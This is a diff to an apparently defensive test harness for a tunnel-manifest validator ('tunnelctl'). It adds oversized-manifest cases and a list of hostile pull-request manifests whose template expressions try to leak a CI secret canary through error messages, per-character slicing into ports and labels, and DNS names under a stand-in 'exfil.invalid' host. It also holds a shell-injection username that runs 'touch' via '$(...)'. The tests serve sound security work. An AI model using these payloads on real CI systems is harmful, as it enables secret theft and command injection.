@@ -158,6 +158,13 @@ CASES = [
     Case("too-many-tunnels", "version: 1\ntunnels:\n" + textwrap.indent(
         "".join(manifest_text("- {name: t$number, port: 1}\n", number=number) for number in range(1001)), "  "),
          "split them across projects"),
+    # 10. a thousand distinct secrets: masking keeps one copy of each, not six printed forms (issue 20, 11)
+    Case("a-thousand-long-secrets", "version: 1\ntunnels:\n" + "".join(
+        f"  - {{name: t{i}, port: {70000 if i == 999 else 1}, allow_cidrs: [10.0.0.0/8], "
+        f"labels: {{a: \"{{{{ '\u00ff' * {8000 - i} | secret }}}}\"}}}}\n" for i in range(1000)),
+         "greater than the maximum of 65535"),
+    Case("fourteen-thousand-long-labels", "version: 1\ntunnels:\n  - name: a\n    port: 1\n    labels:\n" + "".join(
+        f"      l{i}: \"{{{{ 'x' * 60000 }}}}\"\n" for i in range(14_000)), "more than 8 MiB of text in all"),
     # 12. reading a variable without marking it
     Case("env-pop", tunnel(token='"{{ env.pop(\'CI_DEPLOY_SECRET\') }}"'), "tunnels[0].token"),
 ]
@@ -171,8 +178,10 @@ class Outcome:
     peak_rss_mib: float
 
 
-def run_case(case: Case, folder: Path, code: Path = REPO, address_space: int = ADDRESS_SPACE) -> Outcome:
-    """Run `tunnelctl validate` (the one in `code`) on the case in a child held to CPU and address-space limits."""
+def run_case(case: Case, folder: Path, code: Path = REPO, address_space: int = ADDRESS_SPACE,
+             environment: dict[str, str] | None = None) -> Outcome:
+    """Run `tunnelctl validate` (the one in `code`) on the case in a child held to CPU and address-space limits;
+    `environment` is added to the child's (default: the CI secrets of SECRETS)."""
     folder.mkdir(parents=True, exist_ok=True)
     if callable(case.text):
         path = case.text(folder)
@@ -187,7 +196,7 @@ def run_case(case: Case, folder: Path, code: Path = REPO, address_space: int = A
         resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
         resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))
 
-    child_env = {**os.environ, "PYTHONPATH": str(code), **SECRETS}
+    child_env = {**os.environ, "PYTHONPATH": str(code), **(SECRETS if environment is None else environment)}
     child_env.pop("TUNNELCTL_DEBUG", None)
     started = time.monotonic()
     child = subprocess.Popen(command, cwd=folder, env=child_env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
@@ -199,3 +208,122 @@ def run_case(case: Case, folder: Path, code: Path = REPO, address_space: int = A
     child.returncode = os.waitstatus_to_exitcode(status)
     return Outcome(child.returncode, output.decode("utf-8", "replace"), time.monotonic() - started,
                    usage.ru_maxrss / 1024)
+
+
+# A pull request's manifest, run by CI with a secret in the environment (tests/test_pull_request_author.py): the
+# security review's repros (issue 20) and their relatives. Each is run twice, with two canaries of one shape (same
+# length, a capital, a digit or a small letter at the same places, so that both go down the same paths); every
+# output, file and DNS query must be the same for both, and hold no form of either.
+CANARY_NAME = "CI_CANARY"
+CANARIES = ("Qz7Cn4ryS3ceatWv", "Hk2Pm8tbL5quodRx")  # no character twice: see test_pull_request_author
+ALPHABET = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+
+
+@dataclass(frozen=True)
+class PullRequestCase:
+    name: str
+    tunnels: str = "[{name: a, port: 1}]"  # the manifest's tunnel list, as YAML
+    extra: str = ""  # more of the manifest (engines:, project:…)
+    dotenv: str = ""  # the .env the pull request commits beside it
+
+    def manifest(self) -> str:
+        return f"version: 1\n{self.extra}tunnels: {self.tunnels}\n"
+
+
+def _field(name: str, template: str, **more: str) -> str:
+    """One tunnel whose `name` field is the template; single-quoted YAML, so the template's own quotes are "."""
+    port = "" if name == "port" else "port: 1, "
+    others = "".join(f", {key}: {value}" for key, value in more.items())
+    return "[{name: a, " + port + f"{name}: '{template}'" + others + "}]"
+
+
+def _secret(template: str) -> str:
+    """A tunnel whose token is the template: the one kind of field an untrusted manifest may fill from the
+    environment (any other is refused), so the template runs, and fails or not, in full."""
+    return _field("token", template)
+
+
+def _per_tunnel(field: str, template: str, count: int = len(CANARIES[0])) -> str:
+    """`count` tunnels, the i-th with `field` from the template where $i is i: a character per tunnel."""
+    port = "" if field == "port" else "port: 1, "
+    return "[" + ", ".join("{name: t" + str(i) + ", " + port + f"{field}: '{template.replace('$i', str(i))}'" + "}"
+                           for i in range(count)) + "]"
+
+
+_S = f"env.{CANARY_NAME}"
+PULL_REQUEST_CASES = [
+    # 1. the record of reads, and every other object's mutating methods
+    PullRequestCase("clear-the-record", _secret(f"{{{{ {_S} }}}}{{{{ env.read.clear() or \"\" }}}}")),
+    PullRequestCase("clear-the-private-record", _secret(f"{{{{ {_S} }}}}{{{{ env._read.clear() or \"\" }}}}")),
+    PullRequestCase("list-pop", _secret(f"{{% set l = [{_S}] %}}{{{{ l.pop() }}}}")),
+    PullRequestCase("dict-update", _secret(f"{{{{ dict(a=1).update(b={_S}) or {_S} }}}}")),
+    PullRequestCase("set-add", _secret(f"{{% set s = [1] | unique | list %}}{{{{ s.append({_S}) }}}}")),
+    PullRequestCase("cycler", _secret(f"{{{{ cycler({_S}).next() }}}}")),
+    PullRequestCase("joiner", _secret(f"{{{{ joiner({_S})() }}}}")),
+    PullRequestCase("namespace", _secret(
+        f"{{% set ns = namespace(v=1) %}}{{% set ns.v = {_S} %}}{{{{ ns.v }}}}")),
+    # 2. failing templates and filters that would quote what they were given
+    PullRequestCase("computed-variable-name", _secret(f"{{{{ env[{_S} | lower] }}}}")),
+    PullRequestCase("format-of-the-reversed-value", _secret(
+        f"{{{{ (\"{{\" ~ {_S}[::-1] ~ \"}}\").format() }}}}")),
+    PullRequestCase("missing-key", _secret(f"{{{{ {{}}[{_S}] }}}}")),
+    PullRequestCase("attr-by-value", _secret(f"{{{{ {_S} | attr({_S}) }}}}")),
+    PullRequestCase("division", _secret(f"{{{{ {_S} ~ (1 // 0) }}}}")),
+    PullRequestCase("percent-format", _secret(f"{{{{ \"%d\" % {_S} }}}}")),
+    PullRequestCase("required-message", _secret(f"{{{{ env.NOPE | required({_S}) }}}}")),
+    PullRequestCase("costly-number", _secret(f"{{{{ range({_S} | length * 99999) | list }}}}")),
+    PullRequestCase("costly-repeat", _secret(f"{{{{ \"x\" * ({_S} | length * 9999) }}}}")),
+    PullRequestCase("indent-by-value", _secret(f"{{{{ \"x\" | indent({_S}) }}}}")),
+    PullRequestCase("int-base-36", _field("port", f"{{{{ {_S} | int(base=36) }}}}")),
+    # 3, 4. slices and numbers: a character, an index, a length or a yes/no per field
+    PullRequestCase("a-character-per-tunnel", _per_tunnel("container_name", f"x{{{{ {_S}[$i:$i+1] }}}}")),
+    PullRequestCase("a-character-per-token", _per_tunnel("token", f"{{{{ {_S}[$i] }}}}")),
+    PullRequestCase("a-character-per-access-key", "[" + ", ".join(
+        f"{{name: t{i}, port: 1, access_keys: ['{{{{ {_S}[{i}] }}}}']}}" for i in range(len(CANARIES[0]))) + "]"),
+    PullRequestCase("a-character-per-label", "[" + ", ".join(
+        f"{{name: t{i}, port: 1, labels: {{x: '{{{{ {_S}[{i}] }}}}'}}}}" for i in range(len(CANARIES[0]))) + "]"),
+    PullRequestCase("an-index-per-port", _per_tunnel("port", f"{{{{ 1000 + \"{ALPHABET}\".index({_S}[$i]) }}}}")),
+    PullRequestCase("an-index-per-debugger-port", _per_tunnel(
+        "debugger_port", f"{{{{ 4300 + \"{ALPHABET}\".index({_S}[$i]) }}}}")),
+    PullRequestCase("length-as-keepalive", _field("keepalive", f"{{{{ {_S} | length }}}}")),
+    PullRequestCase("float-as-port", _field("port", f"{{{{ ({_S}[2] | int) * 1000.0 + 0.5 }}}}")),
+    PullRequestCase("yes-or-no", _per_tunnel("force", f"{{{{ {_S}[$i] is upper }}}}")),
+    PullRequestCase("length-of-a-label", f"[{{name: a, port: 1, labels: {{n: '{{{{ {_S} | length }}}}'}}}}]"),
+    # loop tricks: a character picked by loop.index, loop.changed, loop.length
+    PullRequestCase("loop-index-picks-a-character", _secret(
+        f"{{% for c in {_S} %}}{{% if loop.index == 3 %}}{{{{ c }}}}{{% endif %}}{{% endfor %}}")),
+    PullRequestCase("loop-changed", _secret(f"{{% for c in {_S} %}}{{{{ loop.changed(c) }}}}{{% endfor %}}")),
+    PullRequestCase("loop-length", _field(
+        "port", f"{{% for c in {_S} %}}{{% if loop.last %}}{{{{ loop.length + 1000 }}}}{{% endif %}}{{% endfor %}}")),
+    # 5. a value in a field the plan names, saved to a file CI keeps
+    PullRequestCase("container-name", _field("container_name", f"x-{{{{ {_S} | lower }}}}")),
+    PullRequestCase("project", extra=f"project: 'p-{{{{ {_S} | lower }}}}'\n"),
+    PullRequestCase("image", _field("image", f"registry.invalid/{{{{ {_S} | lower }}}}:1")),
+    # 6. addresses that would be resolved: the name itself is the message
+    PullRequestCase("engine-address", "[{name: a, port: 1, engine: e}]",
+                    extra=f"engines: {{e: {{docker: 'tcp://{{{{ {_S} | lower }}}}.exfil.invalid:2376'}}}}\n"),
+    PullRequestCase("engine-context", "[{name: a, port: 1, engine: e}]",
+                    extra=f"engines: {{e: {{context: '{{{{ {_S} | lower }}}}'}}}}\n"),
+    PullRequestCase("host-address", _field("host", f"{{{{ {_S} | lower }}}}.exfil.invalid")),
+    PullRequestCase("server-address", _field("server", f"{{{{ {_S} | lower }}}}.exfil.invalid")),
+    # a .env of the pull request's own cannot make its manifest trusted
+    PullRequestCase("dotenv-allows-everything", _field("container_name", f"{{{{ {_S} }}}}"),
+                    dotenv="TUNNELCTL_ENV_ALLOW=*\nCI=\n"),
+    # 8. a command smuggled into what connect prints
+    PullRequestCase("shell-in-basic-auth", "[{name: a, port: 1, mcp: true, basic_auth: "
+                                           "[{username: '$(touch${IFS}$HOME/pwned)', password: x}]}]"),
+]
+
+
+def as_ci_runs_it(case: PullRequestCase) -> tuple[Case, dict[str, str]]:
+    """A pull request's case as validate sees it in CI, the way bench/hostile measures it: the case, and the
+    environment (CI set, the canary allowed and set)."""
+    return (Case(case.name, case.manifest(), env_file=(lambda folder: _dotenv(folder, case.dotenv)) if case.dotenv
+                 else None),
+            {"CI": "true", "TUNNELCTL_ENV_ALLOW": CANARY_NAME, CANARY_NAME: CANARIES[0]})
+
+
+def _dotenv(folder: Path, text: str) -> Path:
+    path = folder / ".env"
+    path.write_text(text)
+    return path
